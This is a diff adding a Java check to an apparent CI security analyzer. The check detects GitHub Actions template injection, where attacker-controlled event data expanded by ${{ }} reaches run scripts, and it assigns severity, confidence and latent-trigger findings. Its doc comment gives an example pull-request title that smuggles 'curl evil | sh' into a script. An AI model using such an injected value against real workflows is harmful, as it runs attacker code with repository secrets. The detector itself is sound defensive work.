@@ -1,0 +1,99 @@
+package dev.cimatrix.analyze.checks.github;
+
+import dev.cimatrix.analyze.Check;
+import dev.cimatrix.analyze.FindingSink;
+import dev.cimatrix.analyze.StepContext;
+import dev.cimatrix.analyze.expr.TaintSource;
+import dev.cimatrix.analyze.github.CodeSinks;
+import dev.cimatrix.analyze.github.Triggers;
+import dev.cimatrix.analyze.github.WorkflowTaint;
+import dev.cimatrix.analyze.github.WorkflowTaint.Scope;
+import dev.cimatrix.catalog.Confidence;
+import dev.cimatrix.catalog.Severity;
+import dev.cimatrix.model.ExpressionUse;
+
+import java.util.LinkedHashSet;
+import java.util.List;
+import java.util.Optional;
+import java.util.Set;
+
+/**
+ * Attacker-controlled data expanded by {@code ${{ }}} into code: a {@code run:} script, the script of
+ * actions/github-script, or an input that an action runs. GitHub pastes the value into the code before it
+ * runs, so a pull request titled {@code a"; curl evil | sh; "} runs that command. Data reaches the
+ * expression directly from the event, or through env variables, step and job outputs, and the inputs of
+ * local reusable workflows and composite actions.
+ */
+public final class TemplateInjectionCheck implements Check {
+    public static final String ID = "gha-template-injection";
+
+    @Override
+    public String id() {
+        return ID;
+    }
+
+    @Override
+    public void step(StepContext context, FindingSink findings) {
+        WorkflowTaint taint = WorkflowTaint.of(context.inventory(), context.derived());
+        WorkflowTaint latent = WorkflowTaint.latent(context.inventory(), context.derived());
+        Scope scope = Scope.of(context);
+        Set<String> triggers = taint.triggers(scope);
+        Optional<String> privileged = Triggers.privilegedForOutsiders(triggers);
+        for (CodeSinks.CodeValue code : CodeSinks.of(context.step())) {
+            for (ExpressionUse use : code.value().expressions()) {
+                List<TaintSource> sources = taint.sources(use, scope);
+                if (sources.isEmpty()) {
+                    reportLatent(latent.sources(use, scope), use, code, findings);
+                    continue;
+                }
+                Set<String> names = new LinkedHashSet<>();
+                sources.forEach(s -> names.add(s.source()));
+                boolean published = context.inAction() && taint.isPublished(context.action());
+                boolean indirect = !use.source().strip().toLowerCase().startsWith("github.");
+                String origin = String.join(", ", names);
+                String message = "${{ " + use.source().strip() + " }} expands " + (indirect ? "data from " : "")
+                        + origin + " into a " + code.language() + " (" + code.where() + "); an attacker who controls it "
+                        + "runs their own commands" + (privileged.isPresent() ? " with the secrets and token of a "
+                        + privileged.get() + " run" : published ? " in every workflow that uses this action" : "")
+                        + ". Pass it through an environment variable instead.";
+                var finding = findings.at(use.location()).message(message)
+                        .subject(code.where() + ":" + use.source().strip())
+                        .property("sources", origin)
+                        .property("sink", code.where());
+                if (privileged.isEmpty() && !published) {
+                    finding.severity(Severity.MEDIUM);
+                }
+                if (published) {
+                    finding.confidence(Confidence.MEDIUM);
+                } else if (indirect) {
+                    finding.confidence(Confidence.MEDIUM);
+                }
+                finding.report();
+            }
+        }
+    }
+
+    /**
+     * An event field that outsiders control under other triggers but is empty under this workflow's: not
+     * exploitable today, and exploitable the day someone adds the trigger. Low severity.
+     */
+    private static void reportLatent(List<TaintSource> sources, ExpressionUse use, CodeSinks.CodeValue code,
+                                     FindingSink findings) {
+        if (sources.isEmpty()) {
+            return;
+        }
+        Set<String> names = new LinkedHashSet<>();
+        sources.forEach(s -> names.add(s.source()));
+        findings.at(use.location())
+                .message("${{ " + use.source().strip() + " }} expands " + String.join(", ", names) + " into a "
+                        + code.language() + " (" + code.where() + "); the field is attacker-controlled under other "
+                        + "triggers and empty under this workflow's, so the script becomes injectable as soon as such "
+                        + "a trigger is added. Pass it through an environment variable instead.")
+                .severity(Severity.LOW)
+                .confidence(Confidence.MEDIUM)
+                .subject(code.where() + ":" + use.source().strip())
+                .property("sources", String.join(", ", names))
+                .property("latent", "true")
+                .report();
+    }
+}
